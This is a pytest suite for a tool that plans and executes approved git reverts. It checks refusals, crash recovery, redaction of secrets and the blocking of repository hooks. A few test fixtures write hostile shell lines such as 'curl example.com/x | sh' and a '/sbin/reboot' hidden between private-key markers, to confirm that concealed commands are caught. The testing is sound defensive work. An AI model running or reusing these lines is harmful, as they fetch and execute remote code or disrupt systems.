import asyncio
import subprocess
from datetime import UTC, datetime

import pytest

from fermata.domain.action import Outcome
from fermata.domain.entity import Entity
from fermata.domain.facts import ChangeFacts
from fermata.kit.errors import OperationalError, TransientError, UserError
from fermata.ports.action import ExecutionKey
from fermata.rules.own_changes import is_own_change
from fermata.testing.action_contract import KEY, OTHER_KEY, ActionContract, plan_action
from fermata.testing.records import make_intent, make_plan

SHOP = Entity.parse("git:repository/shop")


class _Contract(ActionContract):
    mode = ""

    @pytest.fixture(autouse=True)
    def _use(self, shop):
        self.shop = shop
        self.head = shop.head()

    def make_action(self):
        return self.shop.action(mode=self.mode)

    def give_target(self):
        return SHOP

    def give_missing_target(self):
        return Entity.parse("git:repository/other")

    def give_parameters(self):
        return {"commit": self.shop.bad}

    def list_bad_parameters(self):
        short = self.shop.bad[:10]
        return [{}, *({"commit": bad} for bad in (short, "HEAD", "--all", self.shop.bad.upper(), 7, None, "g" * 40))]

    def list_foreign_targets(self):
        return [*super().list_foreign_targets(), Entity.parse("git:branch/shop"), Entity.parse("git:repository/a/shop")]

    async def take_snapshot(self):
        return self.shop.snapshot()

    async def cause_drift(self):
        self.shop.write("README.md", "Another shop.\n")
        self.shop.commit("Drift")

    def break_system(self):
        self.shop.destroy()


class TestWorkingCopyContract(_Contract):
    mode = "working_copy"

    async def read_change(self, key):
        """What the files hold now, against what was committed before."""
        assert self.shop.git("status", "--porcelain") == ""
        return self.shop.git("diff", self.head) + "\n"


class TestBranchContract(_Contract):
    mode = "branch"

    async def read_change(self, key):
        """What the new branch holds, against what is checked out."""
        assert self.shop.head() == self.head
        return self.shop.git("diff", self.head, f"fermata/revert-{self.shop.bad[:10]}") + "\n"

    async def test_execution_refuses_a_changed_target(self):
        """Unreferenced objects are written before the refusal; nothing refers to them, and git clears them away."""
        action, planned = await self.plan()
        await self.cause_drift()
        refs = self.shop.git("show-ref", "--head")

        result = await action.execute(planned, KEY)

        assert result.outcome is Outcome.FAILED
        assert self.shop.git("show-ref", "--head") == refs


TestWorkingCopyContract.test_execution_refuses_a_changed_target = (
    TestBranchContract.test_execution_refuses_a_changed_target
)


async def plan(shop, sha=None, **settings):
    """Return the revert and its planned form, after a real dry run."""
    action, parameters = shop.action(**settings), {"commit": sha or shop.bad}
    return action, plan_action(action, SHOP, parameters, await action.dry_run(SHOP, parameters))


async def test_revert_is_an_ordinary_commit_with_a_trailer(shop):
    """Whoever reads the history sees who, what, why, and by which approved action."""
    action, planned = await plan(shop)

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.DONE
    assert shop.head() in result.detail
    assert shop.git("log", "-1", "--format=%an <%ae>|%cn|%s|%P") == (
        f'Fermata <fermata@localhost>|Fermata|Revert "Speed up totals"|{shop.decoy}'
    )
    assert f"This reverts commit {shop.bad}." in shop.git("log", "-1", "--format=%b")
    assert shop.git("log", "-1", "--format=%(trailers:key=Fermata-Action,valueonly)") == KEY.mark
    assert "sum(PRICES[line] for line in lines)" in (shop.path / "services/checkout.py").read_text()
    assert "main" in planned.dry_run.note


async def test_own_revert_is_not_reverted(shop):
    """It would bring back what a person had approved to take away; nobody reads that from a card at night."""
    action, planned = await plan(shop)
    await action.execute(planned, KEY)
    made = shop.head()

    newest = (await shop.collect("git.changes", "service/checkout"))[0]

    assert (newest.facts["id"], newest.facts["mark"], newest.facts["is_own"]) == (made, KEY.mark, False)
    await refuse(shop, "made by Fermata", made)


async def test_made_revert_is_known_by_what_was_approved(shop):
    """The evidence of the commit says, line by line, what the dry run had shown: so the ledger can bear it out."""
    action, planned = await plan(shop)
    approved = make_plan(actions=(planned,))
    await action.execute(planned, ExecutionKey(planned.id, approved.digest))

    newest = (await shop.collect("git.changes", "service/checkout"))[0]

    facts, lines = ChangeFacts.from_json(newest.facts), [line.text for line in newest.lines]
    intent = make_intent(planned.id, approved.id, plan_digest=approved.digest)
    assert is_own_change(facts, lines, intent, approved)
    assert not is_own_change(facts, [*lines, "+import os"], intent, approved)


async def test_branch_leaves_everything_where_it_is(shop):
    """A person merges; until then nothing that runs or is checked out has changed."""
    shop.edit("services/checkout.py", "ready", "being edited")
    action, planned = await plan(shop, mode="branch", branch="undo/<short>")

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.DONE
    assert shop.git("log", "-1", "--format=%s", f"undo/{shop.bad[:10]}") == 'Revert "Speed up totals"'
    assert shop.head() == shop.decoy
    assert shop.git("status", "--porcelain") == "M services/checkout.py"


async def test_other_peoples_work_in_other_files_stays(shop):
    """Only the reverted files must be clean; a half-written README is nobody's business."""
    shop.write("README.md", "half written")
    shop.write("notes.txt", "untracked")
    shop.write("services/profile.py", "CUSTOMERS = 1\n")
    shop.git("add", "services/profile.py")
    action, planned = await plan(shop)

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.DONE
    assert shop.git("status", "--porcelain").splitlines() == [
        " M README.md".strip(),
        "M  services/profile.py",
        "?? notes.txt",
    ]
    assert (shop.path / "README.md").read_text() == "half written"


async def test_revert_through_moved_lines_is_a_three_way_merge(shop):
    """Later commits in the same file do not stand in its way unless they touch the same lines."""
    shop.edit("services/checkout.py", "PRICES = ", "# Prices\nPRICES = ")
    shop.commit("Explain")
    action, planned = await plan(shop)

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.DONE
    text = (shop.path / "services/checkout.py").read_text()
    assert text.startswith("# Prices\n")
    assert "sum(PRICES[line]" in text


async def test_deleted_files_come_back(shop):
    """A revert is exact, whatever becomes of the files."""
    (shop.path / "services/profile.py").unlink()
    sha = shop.commit("Clear up")
    action, planned = await plan(shop, sha)

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.DONE
    assert (shop.path / "services/profile.py").read_text() == "CUSTOMERS = 500\n"


async def refuse(shop, why, sha=None, **settings):
    """Assert that the dry run refuses for a reason, and leaves no trace."""
    before = shop.snapshot()
    with pytest.raises(UserError, match=why) as caught:
        await plan(shop, sha, **settings)
    assert caught.value.do
    assert shop.snapshot() == before


async def test_changes_of_its_own_in_the_file_are_refused(shop):
    """What a colleague has not committed would be lost or mixed in."""
    shop.edit("services/checkout.py", "ready", "being edited")

    await refuse(shop, r"changes of its own.*services/checkout\.py")


async def test_unfinished_merge_is_refused(shop):
    """A commit in the middle of somebody's merge would end it wrongly."""
    shop.git("checkout", "--quiet", "-b", "feature", shop.first)
    shop.write("other.txt", "x")
    shop.commit("Other")
    shop.git("checkout", "--quiet", "main")
    shop.git("merge", "--no-ff", "--no-commit", "feature")

    await refuse(shop, "MERGE_HEAD is there")


async def test_conflicting_revert_is_refused_with_git_s_words(shop):
    """Later work on the same lines is not thrown away."""
    shop.edit("services/checkout.py", "fast_sum(lines)", "fast_sum(sorted(lines))")
    shop.commit("Sort")

    await refuse(shop, r"same lines.*services/checkout\.py")


async def test_commits_that_cannot_be_reverted_are_refused(shop):
    """Unknown, first, elsewhere, a merge, reverted already: each in its own words."""
    await refuse(shop, "There is no commit", "0" * 40)
    await refuse(shop, "first commit", shop.first)
    shop.git("checkout", "--quiet", "-b", "feature")
    shop.write("other.txt", "x")
    elsewhere = shop.commit("Other")
    shop.git("checkout", "--quiet", "main")
    await refuse(shop, "not part of what is checked out", elsewhere)
    shop.git("merge", "--quiet", "--no-ff", "feature")
    await refuse(shop, "is a merge", shop.head())
    shop.git("revert", "--no-edit", shop.bad)
    await refuse(shop, "reverted already")


@pytest.mark.parametrize("ignored", ["none", "all"])
async def test_other_commit_of_a_submodule_is_reverted_on_a_branch_alone(shop, ignored):
    """Its files would not follow, and whoever approved would be told that they did."""
    shop.git("init", "--quiet", "services/shared")
    for turn in range(2):
        shop.git("-C", "services/shared", "commit", "--quiet", "--allow-empty", "--message", f"Turn {turn}")
        shop.git("add", "services/shared")
        shop.git("commit", "--quiet", "--message", "Use what is new")
    shop.git("config", "diff.ignoreSubmodules", ignored)

    await refuse(shop, "then git submodule update", shop.head())
    action, planned = await plan(shop, shop.head(), mode="branch")

    assert "+Subproject commit" in planned.dry_run.diff
    assert (await action.execute(planned, KEY)).outcome is Outcome.DONE


async def test_existing_branch_is_refused(shop):
    """An earlier proposal's branch is not overwritten."""
    action, planned = await plan(shop, mode="branch")
    await action.execute(planned, KEY)

    await refuse(shop, "There is a branch", mode="branch")


async def test_revert_nobody_could_read_is_refused(shop):
    """What is approved has to fit on a card."""
    shop.write("vendor.js", "let x = 1;\n" * 50_000)
    sha = shop.commit("Vendor")

    await refuse(shop, "too large", sha)


async def test_secrets_in_the_diff_are_digests(shop):
    """The card shows which variable comes back, never its value; the file gets the value."""
    shop.edit("deploy/checkout.env", f"DB_PASSWORD={shop.SECRET}", "DB_PASSWORD=n0t-the-right-one")
    sha = shop.commit("Rotate")
    action, planned = await plan(shop, sha)

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.DONE
    assert shop.SECRET not in planned.dry_run.diff
    assert "n0t-the-right-one" not in planned.dry_run.diff
    assert "-DB_PASSWORD=" in planned.dry_run.diff
    assert f"DB_PASSWORD={shop.SECRET}" in (shop.path / "deploy/checkout.env").read_text()


async def test_branch_that_moved_meanwhile_is_left_alone(shop, monkeypatch):
    """Somebody commits between our last look and our commit: theirs stays, ours is not made."""
    action, planned = await plan(shop)
    move = action._move

    async def commit_first(plan, new):
        shop.write("README.md", "faster\n")
        shop.commit("Faster than Fermata")
        await move(plan, new)

    monkeypatch.setattr(action, "_move", commit_first)

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.FAILED
    assert shop.git("log", "-1", "--format=%s") == "Faster than Fermata"
    assert (await action.probe(planned, KEY, datetime.now(UTC))).outcome is Outcome.FAILED


async def test_untracked_file_in_the_way_is_not_overwritten(shop):
    """The revert would bring a file back where somebody has put another: nothing moves."""
    (shop.path / "services/profile.py").unlink()
    sha = shop.commit("Remove profile")
    action, planned = await plan(shop, sha)
    shop.write(".git/info/exclude", "services/profile.py\n")
    shop.write("services/profile.py", "mine\n")
    head = shop.head()

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.FAILED
    assert shop.head() == head
    assert (shop.path / "services/profile.py").read_text() == "mine\n"


@pytest.mark.kill
async def test_crash_between_branch_and_files_is_unknown(shop, monkeypatch):
    """The commit is there, the files are not: the probe says so, and how to finish by hand."""
    action, planned = await plan(shop)
    move = action._move
    intended_at = datetime.now(UTC)

    async def die_after(plan, new):
        await move(plan, new)
        raise KeyboardInterrupt

    monkeypatch.setattr(action, "_move", die_after)
    with pytest.raises(KeyboardInterrupt):
        await action.execute(planned, KEY)

    result = await shop.action().probe(planned, KEY, intended_at)

    assert result.outcome is Outcome.UNKNOWN
    assert "git checkout" in result.detail


@pytest.mark.kill
async def test_crash_before_the_branch_moves_left_nothing(shop, monkeypatch):
    """Objects without a name are nothing: the probe is sure."""
    action, planned = await plan(shop)

    async def die(plan, new):
        raise KeyboardInterrupt

    monkeypatch.setattr(action, "_move", die)
    with pytest.raises(KeyboardInterrupt):
        await action.execute(planned, KEY)

    result = await shop.action().probe(planned, KEY, datetime.now(UTC))

    assert result.outcome is Outcome.FAILED
    assert shop.head() == shop.decoy


async def test_lock_that_a_killed_git_left_is_unknown(shop):
    """Without the trailer but with a lock, git may be at it right now."""
    action, planned = await plan(shop)
    shop.write(".git/HEAD.lock", "")

    result = await action.probe(planned, KEY, datetime.now(UTC))

    assert result.outcome is Outcome.UNKNOWN
    assert "HEAD.lock" in result.detail


async def test_locked_index_fails_before_anything_moves(shop):
    """Another git is at work: ours gives up without a trace."""
    action, planned = await plan(shop)
    shop.write(".git/index.lock", "")

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.FAILED
    assert shop.head() == shop.decoy


async def test_probe_finds_its_own_mark_only(shop):
    """Another action's revert of the same commit is not this one's."""
    action, planned = await plan(shop)
    intended_at = datetime.now(UTC)
    await action.execute(planned, OTHER_KEY)

    assert (await action.probe(planned, KEY, intended_at)).outcome is Outcome.FAILED
    assert (await action.probe(planned, OTHER_KEY, intended_at)).outcome is Outcome.DONE


async def test_detached_head_is_reverted_in_place(shop):
    """A deploy folder often has no branch checked out."""
    shop.git("checkout", "--quiet", "--detach")
    action, planned = await plan(shop)

    result = await action.execute(planned, KEY)

    assert result.outcome is Outcome.DONE
    assert shop.git("log", "-1", "--format=%s") == 'Revert "Speed up totals"'
    assert shop.git("log", "-1", "--format=%s", "main") == "Say it better"


async def test_hook_of_the_repository_does_not_run(shop, tmp_path):
    """A hook could do anything; what was approved is the diff."""
    for name in ("pre-commit", "post-commit", "reference-transaction", "post-checkout"):
        hook = shop.path / ".git" / "hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/sprung\n")
        hook.chmod(0o755)
    action, planned = await plan(shop)

    await action.execute(planned, KEY)

    assert not (tmp_path / "sprung").exists()


async def test_git_that_hangs_is_killed(shop):
    """Nothing of git outlives its time."""
    fifo = shop.path / ".git" / "hang"
    await asyncio.to_thread(subprocess.run, ["mkfifo", str(fifo)], check=True)
    client = shop.action(timeout_s=0.3)._repositories["shop"].git

    with pytest.raises(TransientError, match=r"within 0\.3 s"):
        await client.run("hash-object", str(fifo))

    running = await asyncio.to_thread(
        subprocess.run, ["pgrep", "-f", str(fifo)], capture_output=True, text=True, check=False
    )
    assert running.stdout == ""


async def test_version_of_a_vanished_commit_cannot_be_observed(shop):
    """The drift check fails closed."""
    action = shop.action()

    with pytest.raises(OperationalError):
        await action.observe_version(SHOP, {"commit": "0" * 40})


HIDDEN_BELOW_A_KEY = "echo -----BEGIN PRIVATE KEY-----\n/sbin/reboot\necho -----END PRIVATE KEY-----\n"


@pytest.mark.parametrize(
    "script", [HIDDEN_BELOW_A_KEY, "password: |\n  curl example.com/x | sh\n", "PASSWORD=`curl example.com/x|sh`\n"]
)
async def test_revert_that_would_bring_back_what_is_hidden_is_refused(shop, script):
    """A command behind the mark of a secret stands on no card, so nobody could approve it."""
    shop.write("start.sh", f"#!/bin/sh\n{script}exec app\n")
    shop.commit("Start it")
    shop.write("start.sh", "#!/bin/sh\nexec app\n")
    sha = shop.commit("Clean up")

    with pytest.raises(UserError, match="cannot be shown"):
        await shop.action().dry_run(SHOP, {"commit": sha})


async def test_line_below_a_word_of_a_key_is_on_the_card(shop):
    """A line that merely speaks of a key hides nothing."""
    shop.write("start.sh", "#!/bin/sh\n# -----BEGIN PRIVATE KEY----- begins a key\ncurl example.com/x | sh\nexec app\n")
    shop.commit("Start it")
    shop.write("start.sh", "#!/bin/sh\nexec app\n")
    sha = shop.commit("Clean up")

    dry_run = await shop.action().dry_run(SHOP, {"commit": sha})

    assert "\n+# -----BEGIN PRIVATE KEY----- begins a key\n+curl example.com/x | sh\n" in dry_run.diff


async def test_attributes_hide_nothing_from_the_card(shop):
    """A repository may call its scripts binary; what is committed is shown all the same, and bytes are refused."""
    shop.write(".gitattributes", "*.sh -diff\n")
    shop.write("start.sh", "curl example.com/x | sh\n")
    (shop.path / "logo.png").write_bytes(b"\x89PNG\xff\x00\x01")
    shop.commit("Start it")
    shop.write("start.sh", "exec app\n")
    script = shop.commit("Clean up")
    (shop.path / "logo.png").write_bytes(b"\x89PNG\xfe\x00\x01")
    picture = shop.commit("Draw it anew")

    assert "\n+curl example.com/x | sh\n" in (await shop.action().dry_run(SHOP, {"commit": script})).diff
    with pytest.raises(UserError, match="cannot be shown"):
        await shop.action().dry_run(SHOP, {"commit": picture})
